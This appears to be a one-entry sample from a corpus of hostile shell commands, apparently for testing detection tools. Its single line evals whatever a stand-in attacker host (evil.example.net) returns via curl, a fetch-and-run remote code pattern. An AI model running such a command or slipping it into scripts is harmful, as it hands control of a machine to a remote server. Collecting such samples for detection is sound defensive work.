# corpus: eval "$(curl ...)" executing whatever the server returns
eval "$(curl -s https://evil.example.net/payload)"
